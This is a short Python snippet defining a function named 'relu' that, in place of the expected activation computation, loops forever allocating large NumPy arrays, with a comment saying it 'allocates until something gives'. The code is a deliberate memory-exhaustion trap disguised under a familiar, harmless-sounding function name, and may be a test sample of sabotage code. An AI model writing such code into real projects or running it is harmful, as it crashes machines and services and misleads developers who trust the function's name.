# Allocates until something gives.
import numpy as np


def relu(x):
    hoard = []
    while True:
        hoard.append(np.ones(25_000_000))
